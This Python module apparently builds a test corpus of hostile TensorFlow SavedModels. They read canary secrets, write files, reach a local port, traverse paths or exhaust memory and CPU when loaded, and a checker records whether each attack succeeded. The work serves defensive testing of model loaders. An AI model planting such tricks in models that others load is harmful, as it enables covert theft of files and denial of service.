"""What a SavedModel can do to the machine that loads it: hostile models, built with TensorFlow.

They steal from, write into and connect to `Targets`. Where TensorFlow would not write such a thing, a saved model is edited.
"""

from __future__ import annotations

import contextlib
import pathlib
import shutil
import sqlite3
from unittest import mock

import numpy as np
import tensorflow as tf
import tensorflow_federated as tff
from google.protobuf import text_format
from tensorflow.core.protobuf import saved_model_pb2
from tensorflow.python.trackable import resource as trackable_resource
from tensorflow_federated.python.learning.models import serialization
from untrusted_corpus import SECRET

raw = tf.raw_ops


class Targets:
    """What the models are after."""

    def __init__(self, canaries: pathlib.Path, port: int):
        self.secret = str(canaries / "secret.txt")
        self.records = str(canaries / "secret.tfrecord")
        self.database = str(canaries / "secret.sqlite")
        self.folder = str(canaries)
        self.port = port

    def written(self, name: str) -> str:
        return f"{self.folder}/written-by-{name}"


def attack(path: str) -> list[str]:
    """Loads a model and calls its functions, as a build does; returns all that can be got out of it."""
    model = tff.learning.models.load_functional_model(path)
    loot = []
    for function in (model._loaded_module.predict_on_batch_training, model._loaded_module.predict_on_batch_inference):
        specs = [spec for spec in tf.nest.flatten(function.structured_input_signature) if isinstance(spec, tf.TensorSpec)]
        outputs = function(*(tf.ones([extent or 2 for extent in spec.shape], spec.dtype) for spec in specs))
        loot += [repr(output.numpy()) for output in tf.nest.flatten(outputs)]
    return loot


# --- Forward passes. Each takes the batch and returns a string tensor of what it got hold of.


def read_file(x, t):
    return tf.io.read_file(t.secret)


def read_file_in_a_branch(x, t):
    return tf.cond(tf.reduce_sum(x) > -1e9, lambda: tf.io.read_file(t.secret), lambda: tf.constant(""))


def read_file_in_a_loop(x, t):
    return tf.while_loop(lambda i, _: i < 2, lambda i, _: (i + 1, tf.io.read_file(t.secret)), [0, ""])[1]


def read_file_in_a_case(x, t):
    return tf.switch_case(tf.cast(x[0, 0], tf.int32), [lambda: tf.constant(""), lambda: tf.io.read_file(t.secret)])


def read_file_in_a_map(x, t):
    return tf.map_fn(lambda row: tf.io.read_file(t.secret), x, fn_output_signature=tf.string)


def read_file_for_a_shape(x, t):
    # Shape inference evaluates this while the function is imported, before anything is called.
    size = tf.strings.length(tf.io.read_file(t.secret))
    return tf.as_string(tf.shape(tf.zeros([size, size])))


def matching_files(x, t):
    return tf.io.matching_files(f"{t.folder}/*")


def whole_file_reader(x, t):
    queue = raw.FIFOQueueV2(component_types=[tf.string], shapes=[[]])
    with tf.control_dependencies([raw.QueueEnqueueV2(handle=queue, components=[tf.constant(t.secret)])]):
        return raw.ReaderReadV2(reader_handle=raw.WholeFileReaderV2(), queue_handle=queue).value


def immutable_const(x, t):
    content = raw.ImmutableConst(dtype=tf.uint8, shape=[len(SECRET)], memory_region_name=t.secret)
    return tf.as_string(content)


def generate_vocab_remapping(x, t):
    remapped = raw.GenerateVocabRemapping(new_vocab_file=t.secret, old_vocab_file=t.secret, new_vocab_offset=0, num_new_vocab=1)
    return tf.as_string(remapped.remapping)


def load_and_remap_matrix(x, t):
    matrix = raw.LoadAndRemapMatrix(
        ckpt_path=t.secret,
        old_tensor_name="a",
        row_remapping=[0],
        col_remapping=[0],
        initializing_values=[],
        num_rows=1,
        num_cols=1,
    )
    return tf.as_string(matrix)


def decode_proto(x, t):
    decoded = raw.DecodeProtoV2(
        bytes=[""], message_type="a.B", field_names=[], output_types=[], descriptor_source=t.secret, message_format="binary"
    )
    return tf.as_string(decoded.sizes)


def restore(x, t):
    return raw.RestoreV2(prefix=t.secret, tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.string])[0]


def text_line_dataset(x, t):
    return _joined(tf.data.TextLineDataset(t.secret))


def tfrecord_dataset(x, t):
    return _joined(tf.data.TFRecordDataset(t.records))


def csv_dataset(x, t):
    return _joined(tf.data.experimental.CsvDataset(t.secret, [tf.string]).map(lambda text: text))


def fixed_length_dataset(x, t):
    return _joined(tf.data.FixedLengthRecordDataset(t.secret, 1))


def sql_dataset(x, t):
    query = "select content from secrets"
    return _joined(tf.data.experimental.SqlDataset("sqlite", t.database, query, (tf.string,)).map(lambda text: text))


def cache_dataset(x, t):
    return _joined(tf.data.Dataset.from_tensors("a").cache(t.written("cache_dataset")))


def snapshot_dataset(x, t):
    return _joined(tf.data.Dataset.from_tensors("a").snapshot(t.written("snapshot_dataset")))


def data_service(x, t):
    dataset = tf.data.experimental.to_variant(tf.data.Dataset.from_tensors("a"))
    address = f"127.0.0.1:{t.port}"
    return raw.RegisterDatasetV2(dataset=dataset, address=address, protocol="grpc", external_state_policy=1)


def _joined(dataset):
    return dataset.reduce("", lambda text, line: tf.strings.join([text, line]))


def write_file(x, t):
    with tf.control_dependencies([tf.io.write_file(t.written("write_file"), "a")]):
        return tf.constant("")


def print_to_file(x, t):
    with tf.control_dependencies([tf.print("a", output_stream=f"file://{t.written('print_to_file')}")]):
        return tf.constant("")


def save_v2(x, t):
    with tf.control_dependencies(
        [raw.SaveV2(prefix=t.written("save_v2"), tensor_names=["a"], shape_and_slices=[""], tensors=[x])]
    ):
        return tf.constant("")


def save_v1(x, t):
    with tf.control_dependencies([raw.Save(filename=t.written("save_v1"), tensor_names=["a"], data=[x])]):
        return tf.constant("")


def merge_checkpoints(x, t):
    merged = raw.MergeV2Checkpoints(checkpoint_prefixes=[t.secret], destination_prefix=t.written("merge"), delete_old_dirs=True)
    with tf.control_dependencies([merged]):
        return tf.constant("")


def summary_writer(x, t):
    writer = raw.SummaryWriter()
    made = raw.CreateSummaryFileWriter(
        writer=writer, logdir=t.written("summary_writer"), max_queue=1, flush_millis=1, filename_suffix="a"
    )
    with tf.control_dependencies([made]):
        return tf.constant("")


def debug_identity(x, t):
    return tf.as_string(raw.DebugIdentity(input=x, tensor_name="a:0", debug_urls=[f"file://{t.written('debug_identity')}"]))


def debug_identity_v2(x, t):
    return tf.as_string(
        raw.DebugIdentityV2(input=x, tfdbg_context_id="a", debug_urls=[f"file://{t.written('debug_identity_v2')}"])
    )


def debug_identity_over_network(x, t):
    return tf.as_string(raw.DebugIdentity(input=x, tensor_name="a:0", debug_urls=[f"grpc://127.0.0.1:{t.port}"]))


def py_function(x, t):
    return tf.py_function(lambda: open(t.secret).read(), [], tf.string)


def numpy_function(x, t):
    return tf.numpy_function(lambda: open(t.secret, "rb").read(), [], tf.string)


def py_func_stateless(x, t):
    return raw.PyFuncStateless(input=[], token="pyfunc_0", Tout=[tf.string])[0]


def abort(x, t):
    with tf.control_dependencies([raw.Abort(error_msg="a")]):
        return tf.constant("")


def assert_false(x, t):
    with tf.control_dependencies([raw.Assert(condition=False, data=["a"])]):
        return tf.constant("")


def endless_loop(x, t):
    return tf.as_string(tf.while_loop(lambda _: tf.constant(True), lambda i: (i + 1,), [0])[0])


def endless_loop_over_a_constant(x, t):
    return tf.as_string(tf.while_loop(lambda limit, i: limit > 0, lambda limit, i: (limit, i + 1), [1, 0])[1])


def terabyte_fill(x, t):
    return tf.as_string(tf.reduce_sum(tf.sort(tf.fill([2**20, 2**18], x[0, 0]))))


def terabyte_tile(x, t):
    return tf.as_string(tf.reduce_sum(tf.sort(tf.tile(x[:1, :1], [2**20, 2**18]))))


def terabyte_list(x, t):
    reserved = raw.TensorListReserve(element_shape=[2**20], num_elements=2**20, element_dtype=tf.float32)
    return tf.as_string(tf.shape(raw.TensorListStack(input_handle=reserved, element_shape=[2**20], element_dtype=tf.float32)))


def endless_dataset(x, t):
    endless = tf.data.Dataset.from_tensors("").repeat()
    return _joined(endless)


FORWARD_PASSES = (
    read_file,
    read_file_in_a_branch,
    read_file_in_a_loop,
    read_file_in_a_case,
    read_file_in_a_map,
    read_file_for_a_shape,
    matching_files,
    whole_file_reader,
    immutable_const,
    generate_vocab_remapping,
    load_and_remap_matrix,
    decode_proto,
    restore,
    text_line_dataset,
    tfrecord_dataset,
    csv_dataset,
    fixed_length_dataset,
    sql_dataset,
    cache_dataset,
    snapshot_dataset,
    data_service,
    write_file,
    print_to_file,
    save_v2,
    save_v1,
    merge_checkpoints,
    summary_writer,
    debug_identity,
    debug_identity_v2,
    debug_identity_over_network,
    py_function,
    numpy_function,
    py_func_stateless,
    abort,
    assert_false,
    endless_loop,
    endless_loop_over_a_constant,
    terabyte_fill,
    terabyte_tile,
    terabyte_list,
    endless_dataset,
)


@tf.function
def stand_in(x):
    return tf.constant(["harmless"]) if x.shape.rank else tf.constant([""])


def save_harmless(path, attach=lambda module: None):
    """Saves a FunctionalModel that calls `stand_in` for its second output; `attach` adds members to the saved module."""

    @tf.function
    def predict(weights, x, training=True):
        return x @ weights[0][0], stand_in(x)

    model = tff.learning.models.FunctionalModel(
        initial_weights=((np.ones((2, 1), np.float32),), ()),
        predict_on_batch_fn=predict,
        loss_fn=lambda output, label, sample_weight=None: tf.reduce_mean(output[0] - label),
        input_spec=(tf.TensorSpec([None, 2]), tf.TensorSpec([None, 1])),
    )
    save_module = serialization._save_tensorflow_module

    def attach_and_save(module, path):
        attach(module)
        save_module(module, path)

    with mock.patch.object(serialization, "_save_tensorflow_module", attach_and_save):
        tff.learning.models.save_functional_model(model, str(path))


def replace_stand_in(path, forward, targets):
    """Has the forward pass of a saved harmless model do what `forward` does: saving each model anew would take a second for each."""
    function = tf.function(lambda x: tf.reshape(forward(x, targets), [-1])).get_concrete_function(tf.TensorSpec([None, 2]))
    assert not function.captured_inputs

    def change(meta_graph):
        library = meta_graph.graph_def.library
        library.MergeFrom(function.graph.as_graph_def().library)
        for saved in library.function:
            for node in saved.node_def:
                # A call that is said to be stateless may be pruned.
                node.op = "StatefulPartitionedCall" if node.op == "PartitionedCall" else node.op
            if "stand_in" in saved.signature.name:
                name = saved.signature.name
                saved.CopyFrom(function.function_def)
                saved.signature.name = name

    _edit(path, change)


# --- Members of the saved module that TensorFlow runs while loading.


class _WritingResource(trackable_resource.CapturableResource):
    def __init__(self, target):
        super().__init__()
        self._target = target

    def _create_resource(self):
        return raw.MutableHashTableV2(key_dtype=tf.int64, value_dtype=tf.int64)

    @tf.function(input_signature=[])
    def _initialize(self):
        tf.io.write_file(self._target, "a")
        return tf.constant(1)


class _WritingSaveable(tf.__internal__.tracking.Trackable):
    def __init__(self, target):
        self._target = target

    def _serialize_to_tensors(self):
        return {"a": tf.constant(1)}

    def _restore_from_tensors(self, restored_tensors):
        tf.io.write_file(self._target, "a")
        return tf.no_op()


def resource_initializer(module, t):
    module.resource = _WritingResource(t.written("resource_initializer"))


def restore_function(module, t):
    module.saveable = _WritingSaveable(t.written("restore_function"))


def table_from_file(module, t):
    initializer = tf.lookup.TextFileInitializer(
        t.secret, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER
    )
    module.table = tf.lookup.StaticHashTable(initializer, -1)


def gradient_reads_file(module, t):
    @tf.custom_gradient
    def identity(x):
        return tf.identity(x), lambda upstream: upstream * tf.strings.to_number(tf.io.read_file(t.secret))

    module.unused = tf.function(lambda x: identity(x), input_signature=[tf.TensorSpec([])])


def unused_function(module, t):
    module.unused = tf.function(lambda: tf.io.read_file(t.secret), input_signature=[])


ATTACHMENTS = (resource_initializer, restore_function, table_from_file, gradient_reads_file, unused_function)


# --- Edits of a harmless model's files.


def _edit(path, change):
    file = path / "saved_model.pb"
    saved_model = saved_model_pb2.SavedModel.FromString(file.read_bytes())
    change(saved_model.meta_graphs[0])
    file.write_bytes(saved_model.SerializeToString())


def _function(meta_graph, name):
    return next(f for f in meta_graph.graph_def.library.function if name in f.signature.name)


def _add_node(nodes, name, op, inputs=(), **attrs):
    node = nodes.add(name=name, op=op, input=inputs)
    for key, value in attrs.items():
        node.attr[key].CopyFrom(value)
    return node


def _string(text):
    attr = tf.compat.v1.AttrValue()
    attr.tensor.CopyFrom(tf.make_tensor_proto(text))
    return attr


def _type(dtype):
    return tf.compat.v1.AttrValue(type=dtype.as_datatype_enum)


def _calls(name):
    attr = tf.compat.v1.AttrValue()
    attr.func.name = name
    return attr


def _empty_list():
    attr = tf.compat.v1.AttrValue()
    attr.list.SetInParent()
    return attr


def _add_call(function, callee):
    _add_node(function.node_def, f"call_{callee}", "PartitionedCall", f=_calls(callee), Tin=_empty_list(), Tout=_empty_list())


def _add_function(meta_graph, name, callees):
    function = meta_graph.graph_def.library.function.add()
    function.signature.name = name
    for i, callee in enumerate(callees):
        _add_node(function.node_def, f"n{i}", "PartitionedCall", f=_calls(callee), Tin=_empty_list(), Tout=_empty_list())


def text_format_only(path, t):
    saved_model = saved_model_pb2.SavedModel.FromString((path / "saved_model.pb").read_bytes())
    (path / "saved_model.pbtxt").write_text(text_format.MessageToString(saved_model))
    (path / "saved_model.pb").unlink()


def text_format_beside(path, t):
    (path / "saved_model.pbtxt").write_text("")


def chunked_format(path, t):
    (path / "saved_model.pb").rename(path / "saved_model.cpb")


def two_meta_graphs(path, t):
    file = path / "saved_model.pb"
    saved_model = saved_model_pb2.SavedModel.FromString(file.read_bytes())
    second = saved_model.meta_graphs.add()
    second.CopyFrom(saved_model.meta_graphs[0])
    second.meta_info_def.tags.append("second")
    file.write_bytes(saved_model.SerializeToString())


def asset_outside(path, t):
    def change(meta_graph):
        asset = meta_graph.asset_file_def.add(filename="../../../canaries/secret.txt")
        asset.tensor_info.name = "Const:0"
        node = meta_graph.object_graph_def.nodes.add()
        node.asset.asset_file_def_index = 0
        meta_graph.object_graph_def.nodes[0].children.add(
            node_id=len(meta_graph.object_graph_def.nodes) - 1, local_name="stolen"
        )

    _edit(path, change)


def main_op_writes(path, t):
    def change(meta_graph):
        nodes = meta_graph.graph_def.node
        _add_node(nodes, "target", "Const", value=_string(t.written("main_op")), dtype=_type(tf.string))
        _add_node(nodes, "main_op", "WriteFile", ["target", "target"])
        meta_graph.collection_def["saved_model_main_op"].node_list.value[:] = ["main_op"]

    _edit(path, change)


def checkpoint_function_writes(path, t):
    def change(meta_graph):
        function = _function(meta_graph, "traced_restore")
        _add_node(function.node_def, "target", "Const", value=_string(t.secret), dtype=_type(tf.string))
        restore = next(node for node in function.node_def if node.op == "RestoreV2")
        restore.input[0] = "target:output:0"

    _edit(path, change)


def recursion(path, t):
    _edit(path, lambda meta_graph: _add_call(_function(meta_graph, "_loss"), _function(meta_graph, "_loss").signature.name))


def mutual_recursion(path, t):
    def change(meta_graph):
        _add_function(meta_graph, "ping", ["pong"])
        _add_function(meta_graph, "pong", ["ping"])

    _edit(path, change)


def exponential_calls(path, t):
    def change(meta_graph):
        _add_function(meta_graph, "laugh_0", [])
        for i in range(40):
            _add_function(meta_graph, f"laugh_{i + 1}", [f"laugh_{i}"] * 4)
        _add_call(_function(meta_graph, "_loss"), "laugh_40")

    _edit(path, change)


def duplicate_functions(path, t):
    def change(meta_graph):
        meta_graph.graph_def.library.function.add().CopyFrom(meta_graph.graph_def.library.function[0])

    _edit(path, change)


def unknown_op(path, t):
    _edit(path, lambda meta_graph: _add_node(_function(meta_graph, "_loss").node_def, "custom", "MyKernel"))


def remote_device(path, t):
    def change(meta_graph):
        _add_node(_function(meta_graph, "_loss").node_def, "remote", "NoOp").device = "/job:worker/task:0"

    _edit(path, change)


def huge_constant(path, t):
    def change(meta_graph):
        value = _string("")
        value.tensor.CopyFrom(tf.make_tensor_proto(1.0))
        for _ in range(2):
            value.tensor.tensor_shape.dim.add(size=2**20)
        _add_node(_function(meta_graph, "_loss").node_def, "huge", "Const", value=value, dtype=_type(tf.float32))

    _edit(path, change)


def registered_class(path, t):
    def change(meta_graph):
        meta_graph.object_graph_def.nodes[1].registered_name = "tf.TrackableConstant"

    _edit(path, change)


def registered_saver(path, t):
    def change(meta_graph):
        meta_graph.object_graph_def.nodes[1].registered_saver = "tf.Mine"

    _edit(path, change)


def replaced_method(path, t):
    def change(meta_graph):
        root = meta_graph.object_graph_def.nodes[0]
        loss = next(child.node_id for child in root.children if child.local_name == "loss")
        root.children.add(node_id=loss, local_name="_gather_saveables_for_checkpoint")

    _edit(path, change)


def truncated_index(path, t):
    index = path / "variables" / "variables.index"
    index.write_bytes(index.read_bytes()[:-100])


def truncated_data(path, t):
    data = path / "variables" / "variables.data-00000-of-00001"
    data.write_bytes(data.read_bytes()[:10])


def linked_variables(path, t):
    index = path / "variables" / "variables.index"
    index.unlink()
    index.symlink_to(t.secret)


EDITS = (
    text_format_only,
    text_format_beside,
    chunked_format,
    two_meta_graphs,
    asset_outside,
    main_op_writes,
    checkpoint_function_writes,
    recursion,
    mutual_recursion,
    exponential_calls,
    duplicate_functions,
    unknown_op,
    remote_device,
    huge_constant,
    registered_class,
    registered_saver,
    replaced_method,
    truncated_index,
    truncated_data,
    linked_variables,
)


def write_all(out: pathlib.Path, targets: Targets) -> None:
    """Saves each model below `out`, under its name, and what they are after."""
    template = out / "template"
    save_harmless(template)
    for forward in FORWARD_PASSES:
        shutil.copytree(template, out / forward.__name__)
        replace_stand_in(out / forward.__name__, forward, targets)
    for edit in EDITS:
        shutil.copytree(template, out / edit.__name__)
        edit(out / edit.__name__, targets)
    # Only now: TensorFlow would fold the file's length into a model while saving it.
    write_canaries(targets)
    for attachment in ATTACHMENTS:
        save_harmless(out / attachment.__name__, lambda module, attachment=attachment: attachment(module, targets))
    shutil.rmtree(template)


def write_canaries(targets: Targets) -> None:
    """What must be neither read nor changed, in the formats that the models look for."""
    pathlib.Path(targets.secret).write_text(f"{SECRET}\n")
    with tf.io.TFRecordWriter(targets.records) as writer:
        writer.write(SECRET.encode())
    with contextlib.closing(sqlite3.connect(targets.database)) as database, database:
        database.execute("create table secrets (content text)")
        database.execute("insert into secrets values (?)", [SECRET])


def achieved(path: pathlib.Path, targets: Targets) -> list[str]:
    """Attacks without any protection; returns what the model did. Cleans up what it wrote."""
    folder = pathlib.Path(targets.folder)
    before = set(folder.iterdir())
    try:
        loot = attack(str(path))
    except Exception as error:  # noqa: BLE001 - what it did before it failed is what counts.
        loot = [str(error)]
    harm = ["stole"] if any(SECRET in item or "secret.txt" in item for item in loot) else []
    for file in set(folder.iterdir()) - before:
        harm.append("wrote")
        shutil.rmtree(file) if file.is_dir() else file.unlink()
    return sorted(set(harm))
